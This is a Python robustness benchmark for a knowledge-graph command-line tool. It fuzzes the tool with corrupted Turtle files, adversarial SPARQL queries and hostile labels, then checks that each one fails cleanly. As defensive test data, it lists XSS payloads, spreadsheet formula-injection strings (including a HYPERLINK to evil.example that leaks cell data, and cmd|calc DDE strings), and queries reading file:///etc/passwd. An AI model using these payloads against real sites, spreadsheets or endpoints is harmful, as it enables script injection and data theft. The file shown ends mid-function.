"""Robustness under hostile input (issue 12): the generators and checks that the
tests `tests/test_robustness_*.py` run under pytest, run here on their own, with a
report of what was tried.

    python -m benchmarks.robustness [--examples N] [--only data,queries,serve,labels] [--big]

Four categories, each on temporary copies of the project (the checkout's triples
are only read):

- data: real triples files mutated (truncated, broken escapes, wrong prefixes,
  invalid IRIs, bad language tags, wrong datatypes, duplicated subjects, deep
  nesting, garbage, other encodings, binary); `kg validate`, `kg stats` and `kg query NAME` must
  succeed or fail cleanly, a syntax error naming the file and its line;
- queries: garbage, mutated named queries and adversarial SPARQL (deep nesting,
  long chains, huge VALUES, glued keywords …) through `kg query --sparql … --timeout 3`;
- serve: a sample of those against a running `kg serve` (400, 403 or 503, and a
  valid query answered afterwards);
- labels: hostile labels through every query and export format, each parsed back.

It prints, per category, the cases generated, the faults injected by kind and the
failures found (one example each); it exits 1 if there is any failure.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from unittest import mock

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from kg.formats import is_number

REPO = Path(__file__).resolve().parent.parent
TRIPLES = REPO / "triples"
QUERY_TIMEOUT = "3"


def hypothesis_settings(examples: int) -> settings:
    """Reproducible and bounded: derandomized, no example database, no shrinking
    (a failing example is reported as found), no deadline (the CLI opens an index)."""
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        phases=(Phase.explicit, Phase.generate),
        suppress_health_check=list(HealthCheck),
        print_blob=False,
    )


# ====================================================================== running the CLI


@dataclass
class Outcome:
    """What one `kg` command did."""

    args: list[str]
    exit_code: int
    stdout: str
    stderr: str
    exception: BaseException | None = None
    """An exception other than SystemExit (a crash the CLI let through)."""
    seconds: float = 0.0


def _exit_raises(code: int) -> None:
    raise SystemExit(code)


def run_cli(args: list[str]) -> Outcome:
    """`kg ARGS` in this process (click's CliRunner; its output as bytes, since its text
    turns CRLF into LF). A timed-out query ends the CLI with os._exit; here that becomes
    a SystemExit, so the test process lives on."""
    from click.testing import CliRunner

    from kg.cli import main

    start = time.monotonic()
    with mock.patch("os._exit", _exit_raises):
        result = CliRunner().invoke(main, args)
    exception = None if result.exception is None or isinstance(result.exception, SystemExit) else result.exception
    stdout, stderr = (data.decode("utf-8", "replace") for data in (result.stdout_bytes, result.stderr_bytes or b""))
    return Outcome(args, result.exit_code, stdout, stderr, exception, time.monotonic() - start)


def run_subprocess(args: list[str], timeout: float = 120) -> Outcome:
    """`python -m kg.cli ARGS` in a process of its own; a hang becomes exit code -999."""
    start = time.monotonic()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "kg.cli", *args], capture_output=True, timeout=timeout, cwd=REPO, check=False
        )
    except subprocess.TimeoutExpired as exc:
        out = (exc.stdout or b"").decode("utf-8", "replace")
        return Outcome(args, -999, out, f"no answer within {timeout:g} s", None, time.monotonic() - start)
    return Outcome(
        args,
        done.returncode,
        done.stdout.decode("utf-8", "replace"),
        done.stderr.decode("utf-8", "replace"),
        None,
        time.monotonic() - start,
    )


def project_args(project) -> list[str]:
    return ["--root", str(project.root), "--index", str(project.index_dir)]


def clean_exit_problems(out: Outcome, allowed: tuple[int, ...]) -> list[str]:
    """A command ended cleanly: an allowed exit code, no traceback, at most one line on
    stderr (and it starts with `error: ` when the command failed with exit 2)."""
    problems = []
    if out.exception is not None:
        problems.append(f"raised {type(out.exception).__name__}: {str(out.exception)[:200]}")
    if "Traceback (most recent call last)" in out.stdout + out.stderr:
        problems.append("printed a Python traceback")
    if out.exit_code == -999:
        problems.append(out.stderr)
    elif out.exit_code not in allowed:
        problems.append(f"exit code {out.exit_code} (expected one of {allowed})")
    lines = out.stderr.splitlines()
    if len(lines) > 1:
        problems.append(f"{len(lines)} lines on stderr, e.g. {lines[:3]}")
    return problems


# ====================================================================== 1. data files

SEED_NAMES = ("places.ttl", "sources.ttl", "vocabularies.ttl", "agencies.ttl", "batch-2.ttl", "news-000.ttl")
SEED_CHARS = 9000
"""Larger files are cut at the first blank line after this many characters (still valid Turtle)."""
COMPANION = "vocabularies.ttl"
"""A second, intact file in every project: errors must name the broken file, not this one."""


@lru_cache(maxsize=1)
def seed_texts() -> dict[str, str]:
    """The real triples files the mutations start from (the larger ones cut short)."""
    seeds = {}
    for name in SEED_NAMES:
        text = (TRIPLES / name).read_text(encoding="utf-8")
        if len(text) > SEED_CHARS:
            text = text[: text.index("\n\n", SEED_CHARS) + 1]
        seeds[name] = text
    return seeds


@dataclass(frozen=True)
class Mutation:
    """One broken (or oddly written) data file."""

    kind: str
    name: str
    data: bytes

    def __repr__(self) -> str:
        return f"Mutation({self.kind!r}, {self.name!r}, {len(self.data)} bytes: {self.data[:120]!r}…)"


_STRING = re.compile(r'"(?:[^"\\\n]|\\.)*"')
_LANG = re.compile(r'(?<=")@[A-Za-z][A-Za-z0-9-]*')
_IRI = re.compile(r"<[^>\s]*>")
_PNAME = re.compile(r"\b(?:kg|gba|rdfs|skos|dcterms|prov|org|xsd|schema):[\w-]*")
_PREFIX_LINE = re.compile(r"^@prefix [^\n]*\n", re.M)


def _pick(draw, pattern: re.Pattern[str], text: str) -> re.Match[str] | None:
    matches = list(pattern.finditer(text))
    return draw(st.sampled_from(matches)) if matches else None


def _replace(text: str, match: re.Match[str] | None, new: str) -> str:
    if match is None:
        return text + new
    return text[: match.start()] + new + text[match.end() :]


def _position(draw, text: str) -> int:
    return draw(st.integers(0, max(0, len(text) - 1)))


def _m_truncate(draw, text: str) -> bytes:
    return text[: _position(draw, text)].encode()


def _m_broken_escape(draw, text: str) -> bytes:
    match = _pick(draw, _STRING, text)
    escape = draw(st.sampled_from(["\\q", "\\u12", "\\uZZZZ", "\\U0011FFFF", "\\UD800DC00", "\\x41", "\\", "\\\n"]))
    if match is None:
        return (text + f'\nkg:place-x <http://www.w3.org/2000/01/rdf-schema#label> "{escape}" .\n').encode()
    inner = match.group()[1:-1]
    at = draw(st.integers(0, len(inner)))
    return _replace(text, match, '"' + inner[:at] + escape + inner[at:] + '"').encode()


def _m_wrong_prefix(draw, text: str) -> bytes:
    how = draw(st.sampled_from(["rename-use", "drop-declaration", "bad-namespace", "redeclare"]))
    if how == "rename-use":
        match = _pick(draw, _PNAME, text)
        new = draw(st.sampled_from(["kgx", "undeclared", "KG", "gba.", "", "_"]))
        return _replace(text, match, new + ":" + (match.group().split(":", 1)[1] if match else "x")).encode()
    if how == "drop-declaration":
        return _replace(text, _pick(draw, _PREFIX_LINE, text), "").encode()
    line = _pick(draw, _PREFIX_LINE, text)
    namespace = draw(st.sampled_from(["<relative/>", "<has space>", "<>", "<http://example.org/other#>", "<urn:x:>"]))
    prefix = line.group().split()[1] if line else "kg:"
    declaration = f"@prefix {prefix} {namespace} .\n"
    if how == "bad-namespace":
        return _replace(text, line, declaration).encode()
    return (text + declaration + 'kg:place-x rdfs:label "x"@en .\n').encode()


BAD_IRIS = (
    "<has space>",
    "<relative/path>",
    "<http://x/{braces}>",
    "<http://[::1>",
    "<>",
    '<http://x/"quote">',
    "<http://x/\\u0000>",
    "<javascript:alert(1)>",
    "<http://例子.测试/路径>",
    "<http://x/a\\u0020b>",
    "<file:///etc/passwd>",
    "<http://example.org/it's>",
    "<http://x/" + "a" * 5000 + ">",
)


def _m_invalid_iri(draw, text: str) -> bytes:
    target = _pick(draw, draw(st.sampled_from([_IRI, _PNAME])), text)
    return _replace(text, target, draw(st.sampled_from(BAD_IRIS))).encode()


BAD_TAGS = ("@", "@1en", "@en_US", "@zh--Hans", "@-", "@en-", "@a" + "b" * 100, "@zh-Hans-CN-x-private", "@EN", "@x")


def _m_bad_language_tag(draw, text: str) -> bytes:
    return _replace(text, _pick(draw, _LANG, text), draw(st.sampled_from(BAD_TAGS))).encode()


BAD_TYPED = (
    '"abc"^^xsd:integer',
    '"2024-13-45"^^xsd:date',
    '"1e"^^xsd:double',
    '""^^xsd:gYear',
    '"maybe"^^xsd:boolean',
    '"99999999999999999999999999999999"^^xsd:int',
    '"x"^^<not a datatype>',
    '"x"^^undeclared:dt',
    '"x"^^xsd:nonexistent',
    '"1"^^rdf:langString',
    '"2024-02-30"^^xsd:date',
)


def _m_wrong_datatype(draw, text: str) -> bytes:
    typed = draw(st.sampled_from(BAD_TYPED))
    if "xsd:" in typed and "@prefix xsd:" not in text:
        text = "@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .\n" + text
    match = _pick(draw, re.compile(_STRING.pattern + r"(?:@[A-Za-z][A-Za-z0-9-]*|\^\^\S+)?"), text)
    return _replace(text, match, typed).encode()


def _m_duplicate_subject(draw, text: str) -> bytes:
    blocks = [b for b in text.split("\n\n") if b.strip() and not b.lstrip().startswith(("@prefix", "#"))]
    how = draw(st.sampled_from(["block-again", "block-relabelled", "whole-file-twice", "block-twice-typed"]))
    if how == "whole-file-twice" or not blocks:
        return (text + "\n" + text).encode()
    block = draw(st.sampled_from(blocks))
    if how == "block-relabelled":
        block = _STRING.sub('"duplicate label"', block, count=1)
    if how == "block-twice-typed":
        block = block.replace(" a gba:", " a gba:TypicalCase , gba:", 1)
    return (text + "\n\n" + block + "\n").encode()


def _m_deep_nesting(draw, text: str) -> bytes:
    """A statement whose object is nested blank nodes or lists, hundreds or thousands deep,
    with an ill-typed literal at the bottom (so that validate has to say where it is)."""
    depth = draw(st.integers(100, 3000))
    opening, closing = draw(st.sampled_from([("[ rdfs:seeAlso ", " ]"), ("( ", " )")]))
    bottom = '[ rdfs:label "abc"^^<http://www.w3.org/2001/XMLSchema#integer> ]'
    prefix = "" if "@prefix rdfs:" in text else "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
    nested = opening * depth + bottom + closing * depth
    return (prefix + text + f"\n<https://w3id.org/gba-kg/id/place-deep> rdfs:seeAlso {nested} .\n").encode()


GARBAGE = st.text(
    alphabet=st.sampled_from([*"\"'<>{}()[].;,@^\\#:_-\n\r\t ", "\x00", "\x1b", "中", "𝟘", "\u202e", "\ufeff"]),
    min_size=1,
    max_size=40,
)


def _m_insert_garbage(draw, text: str) -> bytes:
    at = _position(draw, text)
    return (text[:at] + draw(GARBAGE) + text[at:]).encode()


def _m_delete_range(draw, text: str) -> bytes:
    start = _position(draw, text)
    return (text[:start] + text[start + draw(st.integers(1, 400)) :]).encode()


def _m_swap_lines(draw, text: str) -> bytes:
    lines = text.splitlines(keepends=True)
    i, j = draw(st.integers(0, len(lines) - 1)), draw(st.integers(0, len(lines) - 1))
    lines[i], lines[j] = lines[j], lines[i]
    return "".join(lines).encode()


def _m_bit_flip(draw, text: str) -> bytes:
    data = bytearray(text.encode())
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(data) - 1))
        data[at] ^= 1 << draw(st.integers(0, 7))
    return bytes(data)


ENCODINGS = ("gbk", "gb18030", "big5", "utf-16", "utf-16-be", "utf-32", "latin-1", "utf-8-sig", "crlf", "cr")


def _m_encoding(draw, text: str) -> bytes:
    encoding = draw(st.sampled_from(ENCODINGS))
    if encoding == "crlf":
        return text.replace("\n", "\r\n").encode()
    if encoding == "cr":
        return text.replace("\n", "\r").encode()
    return text.encode(encoding, errors="replace")


def _m_binary(draw, text: str) -> bytes:
    head = draw(
        st.sampled_from([b"", b"\x89PNG\r\n\x1a\n", b"\x1f\x8b\x08\x00", b"PK\x03\x04", b"\xff\xfe", b"%PDF-1.7\n"])
    )
    return head + draw(st.binary(min_size=1, max_size=3000))


MUTATORS: dict[str, Callable] = {
    "truncate": _m_truncate,
    "broken-escape": _m_broken_escape,
    "wrong-prefix": _m_wrong_prefix,
    "invalid-iri": _m_invalid_iri,
    "bad-language-tag": _m_bad_language_tag,
    "wrong-datatype": _m_wrong_datatype,
    "duplicate-subject": _m_duplicate_subject,
    "deep-nesting": _m_deep_nesting,
    "insert-garbage": _m_insert_garbage,
    "delete-range": _m_delete_range,
    "swap-lines": _m_swap_lines,
    "bit-flip": _m_bit_flip,
    "encoding": _m_encoding,
    "binary": _m_binary,
}


@st.composite
def mutated_files(draw, kinds: tuple[str, ...] = tuple(sorted(MUTATORS))) -> Mutation:
    """A real triples file (or the start of one) with one fault of one of `kinds` injected."""
    name = draw(st.sampled_from(SEED_NAMES))
    kind = draw(st.sampled_from(kinds))
    return Mutation(kind, name, MUTATORS[kind](draw, seed_texts()[name]))


_LOCATED = re.compile(r"^(?P<path>.+?):(?P<line>\d+)(?::(?P<column>\d+))?: (?P<message>.+)$")


def _location_problems(text: str, path: Path, data: bytes, what: str) -> list[str]:
    """`text` is `path:line[:column]: message` naming `path`, with a line the file has."""
    match = _LOCATED.match(text)
    if not match:
        return [f"{what} does not read path:line[:column]: message: {text[:200]!r}"]
    problems = []
    if match["path"] != str(path):
        problems.append(f"{what} names {match['path']!r}, not the broken file {str(path)!r}")
    last_line = data.count(b"\n") + data.count(b"\r") + 1
    if not 1 <= int(match["line"]) <= last_line:
        problems.append(f"{what} names line {match['line']} of a file of {last_line} lines")
    return problems


def check_data_file(project, mutation: Mutation) -> tuple[list[str], dict[str, int]]:
    """Write the mutated file into `project`, run `kg stats`, `kg query entities-by-class`
    and `kg validate`; the problems found, and each command's exit code."""
    path = project.triples_dir / mutation.name
    for stale in project.triples_dir.glob("*.ttl"):
        if stale.name not in (mutation.name, COMPANION):
            stale.unlink()
    if mutation.name != COMPANION:
        (project.triples_dir / COMPANION).write_text(seed_texts()[COMPANION], encoding="utf-8")
    path.write_bytes(mutation.data)
    args = project_args(project)
    runs = {
        "stats": run_cli(["stats", *args]),
        "query": run_cli(["query", "entities-by-class", *args]),
        "validate": run_cli(["validate", *args, "--sources", str(project.sources_dir)]),
    }
    problems: list[str] = []
    for name, out in runs.items():
        found = clean_exit_problems(out, (0, 1, 2) if name == "validate" else (0, 2))
        if out.exit_code == 2 and name != "validate":
            line = out.stderr.strip()
            if line.startswith("error: "):
                found += _location_problems(line.removeprefix("error: "), path, mutation.data, "the error")
            else:
                found.append(f"exit 2 without an `error: ` line on stderr: {line[:200]!r}")
        problems += [f"kg {name}: {p}" for p in found]
    validate = runs["validate"]
    if validate.exit_code == 2:
        syntax = [line for line in validate.stdout.splitlines() if line.startswith("syntax: ")]
        if len(syntax) != 1:
            problems.append(f"kg validate: exit 2 with {len(syntax)} `syntax:` lines: {validate.stdout[:300]!r}")
        else:
            where = _location_problems(syntax[0].removeprefix("syntax: "), path, mutation.data, "`syntax:` line")
            problems += [f"kg validate: {p}" for p in where]
    elif validate.exit_code == 0 and not validate.stdout.startswith("valid: checked"):
        problems.append(f"kg validate: exit 0 without `valid:` ({validate.stdout[:200]!r})")
    codes = {name: out.exit_code for name, out in runs.items()}
    if codes["stats"] != codes["query"] or (codes["stats"] == 2) != (codes["validate"] == 2):
        problems.append(f"the commands disagree on whether the file reads: exit codes {codes}")
    return problems, codes


def big_turtle(megabytes: int = 50, tail: str = "") -> bytes:
    """About `megabytes` MB of real Turtle (batch-2.ttl's statements, repeated: the same
    subjects again and again), then `tail`."""
    text = (TRIPLES / "batch-2.ttl").read_text(encoding="utf-8")
    prefixes = "".join(line + "\n" for line in text.splitlines() if line.startswith("@prefix"))
    body = "\n".join(line for line in text.splitlines() if not line.startswith("@prefix")).encode() + b"\n"
    copies = megabytes * 2**20 // len(body) + 1
    return prefixes.encode() + body * copies + tail.encode()


# ====================================================================== 2. queries

SPARQL_WORDS = (
    "SELECT", "ASK", "CONSTRUCT", "DESCRIBE", "WHERE", "FILTER", "OPTIONAL", "UNION", "MINUS", "GRAPH",
    "BIND", "VALUES", "SERVICE", "FROM", "NAMED", "PREFIX", "BASE", "LIMIT", "OFFSET", "ORDER", "BY",
    "GROUP", "HAVING", "DISTINCT", "REDUCED", "AS", "a", "EXISTS", "NOT", "IN", "COUNT", "STR", "REGEX",
    "?s", "?p", "?o", "$x", "*", "{", "}", "(", ")", "[", "]", ".", ";", ",", "/", "|", "^", "!", "+",
    "<urn:x>", "<http://example.org/a b>", "kg:case-b2-01", "gba:TypicalCase", "rdfs:label", ":",
    '"text"', "'x'", '"""long"""', "@en", "^^xsd:integer", "1", "-2.5e3", "true", "UNDEF", "#", "\n",
    "<<", ">>", "INSERT", "DELETE", "LOAD", "DROP", "CLEAR", "中文", "\\u0041", "\x00", "\ufeff",
)  # fmt: skip


@lru_cache(maxsize=1)
def named_query_texts() -> tuple[str, ...]:
    from kg.query import named_queries

    return tuple(q.text for q in named_queries().values())


@st.composite
def garbage_queries(draw) -> str:
    """Text that is not SPARQL, or nearly is: unicode noise, keyword soup, and named
    queries with a few characters deleted, inserted or repeated."""
    how = draw(st.sampled_from(["unicode", "soup", "mutated"]))
    if how == "unicode":
        return draw(st.text(st.characters(codec=None, exclude_categories=()), max_size=300))
    if how == "soup":
        return " ".join(draw(st.lists(st.sampled_from(SPARQL_WORDS), max_size=60)))
    text = draw(st.sampled_from(named_query_texts()))
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(text)))
        edit = draw(st.sampled_from(["delete", "insert", "repeat", "truncate"]))
        if edit == "delete":
            text = text[:at] + text[at + draw(st.integers(1, 20)) :]
        elif edit == "insert":
            text = text[:at] + draw(st.sampled_from(SPARQL_WORDS)) + text[at:]
        elif edit == "repeat":
            text = text[:at] + text[at : at + 10] * draw(st.integers(2, 50)) + text[at:]
        else:
            text = text[:at]
    return text


@dataclass(frozen=True)
class Adversarial:
    """A query built to hurt: its kind, size, text, and the answer it must get:
    `refused` (exit 2 before running), `error` (exit 2: refusal or syntax error) or
    `any` (an answer, a clean error or the time limit)."""

    kind: str
    size: int
    text: str
    expect: str

    def __repr__(self) -> str:
        return f"Adversarial({self.kind!r}, size={self.size}, {len(self.text)} chars, expect={self.expect!r})"


def _nest(open_: str, inner: str, close: str, n: int) -> str:
    return open_ * n + inner + close * n


P = "<http://example.org/p>"
W = "SELECT * WHERE "
SPO = "?s ?p ?o"
SVC = "SERVICE <http://127.0.0.1:9/> { ?s ?p ?o }"


def _chain(template: str, n: int, sep: str = " ") -> str:
    return sep.join(template.format(i=i) for i in range(n))


ADVERSARIAL: dict[str, tuple[Callable[[int], str], str]] = {
    # nesting: Oxigraph recurses on the thread's stack; thousands of levels end the process
    "nested-groups": (lambda n: W + _nest("{ ", SPO, " }", n), "deep"),
    "nested-parentheses": (lambda n: W + "{ FILTER(" + _nest("(", "1", ")", n) + ") }", "deep"),
    "nested-exists": (lambda n: W + f"{{ {SPO} " + _nest("FILTER EXISTS { ", SPO, " }", n) + " }", "deep"),
    "nested-calls": (lambda n: W + "{ BIND(" + _nest("STR(", "1", ")", n) + " AS ?x) }", "deep"),
    "nested-optional": (lambda n: W + f"{{ {SPO} " + _nest(f"OPTIONAL {{ {SPO} ", "", "}", n) + " }", "deep"),
    "nested-subqueries": (lambda n: W + _nest("{ SELECT * WHERE ", f"{{ {SPO} }}", " }", n), "deep"),
    "nested-collections": (lambda n: W + "{ ?s ?p " + _nest("( ", "?o", " )", n) + " }", "deep"),
    "nested-blank-nodes": (lambda n: W + "{ ?s ?p " + _nest(f"[ {P} ", "?o", " ]", n) + " }", "deep"),
    "nested-paths": (lambda n: W + "{ ?s " + _nest("(", P, ")*", n) + " ?o }", "deep"),
    "nested-quoted-triples": (lambda n: W + "{ " + _nest("<< ", SPO, " >> ?p ?o", n) + " }", "deep"),
    "negations": (lambda n: W + "{ FILTER(" + "!" * n + "true) }", "deep"),
    # chains: flat text, but left-deep trees in the engine
    "bind-chain": (lambda n: W + f"{{ {SPO} " + _chain("BIND(1 AS ?b{i})", n) + " }", "long"),
    "union-chain": (lambda n: W + f"{{ {{{SPO}}}" + f" UNION {{{SPO}}}" * n + " }", "long"),
    "minus-chain": (lambda n: W + f"{{ {SPO} " + f"MINUS {{ {SPO} }} " * n + "}", "long"),
    "plus-chain": (lambda n: W + "{ BIND(1" + " + 1" * n + " AS ?x) }", "long"),
    "and-chain": (lambda n: W + f"{{ {SPO} FILTER(true" + " && true" * n + ") }", "long"),
    "projection": (lambda n: "SELECT " + _chain("(1 AS ?v{i})", n) + " WHERE { }", "long"),
    "path-sequence": (lambda n: W + "{ ?s " + "/".join([P] * n) + " ?o }", "patterns"),
    "object-list": (lambda n: W + f"{{ ?s {P} " + _chain("?o{i}", n, " , ") + " }", "patterns"),
    "star": (lambda n: W + "{ ?s " + _chain(P + " ?o{i}", n, " ; ") + " }", "patterns"),
    "groups": (lambda n: W + "{ " + f"{{ {SPO} }} " * n + "}", "patterns"),
    # big but harmless: answered (or stopped at the time limit)
    "huge-values": (lambda n: "SELECT ?v WHERE { VALUES ?v { " + _chain("<urn:x{i}>", n) + " } }", "any"),
    "huge-in": (lambda n: W + "{ ?s rdfs:label ?o FILTER(?o IN (" + _chain('"{i}"', n, ",") + ")) }", "any"),
    "long-literal": (lambda n: W + '{ BIND("' + "x" * n + '" AS ?x) }', "any"),
    "cartesian": (
        lambda n: "SELECT (COUNT(*) AS ?n) WHERE { " + _chain("?a{i} ?b{i} ?c{i} .", n % 4 + 2) + " }",
        "any",
    ),
    "path-over-everything": (lambda n: "SELECT (COUNT(*) AS ?n) WHERE { ?s (!rdf:type)* ?o }", "any"),
    # keywords where a guard that reads only spaced-out words would miss them
    "glued-service": (
        lambda n: f"PREFIX : <http://127.0.0.1:9/> {W}{{ {SPO} SERVICE{'a' * (n % 3)}:{{ {SPO} }} }}",
        "refused",
    ),
    "service-after-literal": (lambda n: W + f"{{ ?s ?p true{SVC} }}", "refused"),
    "service-after-cr-comment": (lambda n: W + f"{{ {SPO} # x\r{SVC} }}", "refused"),
    "apostrophe-iri": (lambda n: W + f"{{ ?s ?p ?a FILTER(?a<'x>') {SVC} FILTER('x'<'y') }}", "refused"),
    "escaped-iri": (lambda n: W + f"{{ <http://x/\\u0041'> ?p ?o . {SVC} FILTER(?o != 'q') }}", "refused"),
    "from-file": (lambda n: "SELECT * FROM <file:///etc/passwd> WHERE { ?s ?p ?o }", "refused"),
    "glued-from": (lambda n: "PREFIX : <file:///etc/> SELECT * FROM:passwd WHERE { ?s ?p ?o }", "refused"),
    "update": (lambda n: "INSERT DATA { <urn:a> <urn:b> <urn:c> }", "refused"),
    "not-utf8": (lambda n: W + "{ ?s ?p '\udcff\udcfe' }", "error"),
}
SIZES = {"deep": (33, 6000), "long": (3000, 9000), "patterns": (150, 600), "any": (1, 4000)}
"""The sizes drawn per family (MAX_DEPTH is 32, MAX_ELEMENTS 2000, MAX_PATTERNS 100)."""
IN_PROCESS_KINDS = tuple(k for k in ADVERSARIAL if k not in ("cartesian", "path-over-everything"))
"""The slow ones run only in a process of their own (a stopped query still runs in its thread)."""


def adversarial(kind: str, size: int) -> Adversarial:
    build, family = ADVERSARIAL[kind]
    expect = {"deep": "refused", "long": "refused", "patterns": "refused"}.get(family, family)
    return Adversarial(kind, size, build(size), expect)


@st.composite
def adversarial_queries(draw, kinds: tuple[str, ...] = IN_PROCESS_KINDS) -> Adversarial:
    kind = draw(st.sampled_from(kinds))
    low, high = SIZES.get(ADVERSARIAL[kind][1], (1, 3))
    return adversarial(kind, draw(st.integers(low, high)))


def check_query(project, text: str, expect: str = "any") -> tuple[list[str], Outcome]:
    """`kg query --sparql TEXT --timeout 3` in this process: a clean answer or exit 2
    with one `error: ` line; refused or failing where `expect` says so."""
    out = run_cli(["query", "--sparql", text, "--timeout", QUERY_TIMEOUT, "--format", "csv", *project_args(project)])
    return query_outcome_problems(out, expect), out


def query_outcome_problems(out: Outcome, expect: str) -> list[str]:
    if out.args[1:3] == ["--sparql", ""] and out.exit_code == 2 and "Error: give a query NAME" in out.stderr:
        return []  # an empty --sparql is no query at all: click's usage error
    problems = clean_exit_problems(out, (0, 2))
    if out.exit_code == 2 and not out.stderr.startswith("error: "):
        problems.append(f"exit 2 without an `error: ` line: {out.stderr[:200]!r}")
    if expect in ("refused", "error") and out.exit_code != 2:
        problems.append(f"expected a refusal, got exit {out.exit_code}")
    if expect == "refused" and "time limit" in out.stderr:
        problems.append("ran until the time limit instead of being refused")
    return problems


def serve_expectation(query: Adversarial) -> str:
    """What the endpoint must answer: as the CLI, except that a body that is not UTF-8
    is read with U+FFFD for the bad bytes (and may then be a query it answers)."""
    return "any" if query.kind == "not-utf8" else query.expect


def serve_problems(response_status: int, body: str, expect: str) -> list[str]:
    """An endpoint's answer to an adversarial query: 400, 403 or 503 (200 allowed for `any`)."""
    allowed = {"refused": (403,), "error": (400, 403), "any": (200, 400, 403, 413, 503)}[expect]
    problems = []
    if response_status not in allowed:
        problems.append(f"HTTP {response_status} (expected one of {allowed}): {body[:200]!r}")
    for leak in ("Traceback", 'File "', "site-packages"):
        if leak in body:
            problems.append(f"the answer shows {leak!r}")
    return problems


# ====================================================================== 3. labels

HOSTILE_LABELS = (
    "</script><script>window.__xss='script'</script>",
    "<img src=x onerror=\"window.__xss='img'\">",
    "<a href=\"javascript:window.__xss='href'\">click</a>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;b&gt;not bold&lt;/b&gt; &amp; &#x3C;",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1",
    "a\nb\r\nc\rd",
    "line one\u2028line two\u2029three\x85four",
    "\"quoted\" 'single' \"\"\"triple\"\"\" '''triple'''",
    "back\\slash \\n \\u0041 \\\\",
    "\u202eevil.exe\u202c \u200fRTL\u200e \u2066isolate\u2069",
    "zero\u200bwidth\u200c\u200d\ufeffjoiners",
    "tab\tseparated\tvalues",
    "| pipe | table | [link](javascript:alert(1)) ![img](http://tracker.example/x.png) *em* _u_ `code` ~~s~~",
    "# heading\n- list\n> quote",
    "null\x00byte bell\x07 escape\x1b[31mred\x1b[0m",
    "香港醫務衞生局 广东省 🇭🇰 𝟘𝟙",
    "x" * 100_000,
    "",
    " ",
)
LABEL_ALPHABET = st.one_of(
    st.sampled_from([*"<>&\"'\\/|*_`~[]()#!=+-@;,:\n\r\t ", "\u202e", "\u200f", "\u200b", "\ufeff", "\u2028"]),
    st.sampled_from(["\x00", "\x07", "\x0b", "\x0c", "\x7f", "\x85", "\x9b", "香", "港", "🇭", "𝟘"]),
    st.characters(codec="utf-8", exclude_characters="\x1b"),
)
"""Everything but ESC, which click strips (with what follows) from output that is not
a terminal (tested on its own in tests/test_robustness_labels.py)."""


@st.composite
def hostile_labels(draw) -> str:
    if draw(st.integers(0, 9)) == 0:
        return draw(st.sampled_from([x for x in HOSTILE_LABELS if "\x1b" not in x]))
    text = draw(st.text(LABEL_ALPHABET, max_size=80))
    return draw(st.sampled_from(["", "=", "+", "-", "@", "\t", "<script>"])) + text


LABEL_PREFIXES = (
    "@prefix gba: <https://w3id.org/gba-kg/ontology#> .\n@prefix kg: <https://w3id.org/gba-kg/id/> .\n"
    "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n@prefix dcterms: <http://purl.org/dc/terms/> .\n"
)
KG_NS = "https://w3id.org/gba-kg/id/"


def label_node(i: int) -> str:
    """The CURIE of the i-th node carrying a hostile label."""
    return f"kg:org-robustness-label-{i}"


def turtle_string(text: str) -> str:
    """A Turtle string literal for any text: quotes, backslashes and every control or
    line-separating character escaped as \\uXXXX."""
    out = []
    for char in text:
        code = ord(char)
        if char in '"\\' or code < 0x20 or 0x7F <= code <= 0x9F or char in "\u2028\u2029":
            out.append(f"\\u{code:04X}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def labels_turtle(labels: list[str]) -> str:
    """One organisation per label (the same text in English and simplified Chinese)."""
    out = [LABEL_PREFIXES]
    for i, label in enumerate(labels):
        literal, node = turtle_string(label), label_node(i)
        out.append(
            f"{node} a gba:Organisation ; rdfs:label {literal}@en , {literal}@zh-Hans ; dcterms:source kg:src-a .\n"
            f"kg:prog-drugs-connect gba:involves {node} .\n"
        )
    return "".join(out)


def formula_guarded(text: str) -> str:
    """What kg.formats._safe_cell makes of a cell (the guard the CSV outputs use)."""
    from kg.formats import _safe_cell

    return _safe_cell(text)


def xml_safe(text: str) -> str:
    from kg.export import _NOT_XML

    return _NOT_XML.sub("\ufffd", text)


def one_line(text: str) -> str:
    """What the one-line formats (table, md) show of a label."""
    from rdflib import Literal

    from kg.formats import cell_text

    return cell_text(Literal(text))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(c)]


def _md_rows(markdown: str) -> tuple[list[list[str]], list[str]]:
    """The table's cells as plain text (markdown-it, CommonMark + tables), and the
    inline markup found in them (links, images, HTML, emphasis, code …)."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown)
    rows: list[list[str]] = []
    markup: list[str] = []
    for token in tokens:
        if token.type == "tr_open":
            rows.append([])
        elif token.type == "inline" and rows:
            children = token.children or []
            markup += [c.type for c in children if c.type not in ("text", "softbreak")]
            rows[-1].append("".join(c.content for c in children if c.type == "text"))
    return rows, markup


def _shown(label: str, i: int) -> str:
    """The name a label column shows: the label, or the CURIE when the label is empty."""
    return label or label_node(i)


def check_labels_in_queries(project, labels: list[str]) -> list[str]:
    """The labels through `kg query` in every format, each parsed back with its own reader."""
    values = " ".join(label_node(i) for i in range(len(labels)))
    query = (
        f"SELECT ?node ?label WHERE {{ VALUES ?node {{ {values} }} ?node rdfs:label ?label "
        'FILTER(langMatches(lang(?label), "en")) }'
    )
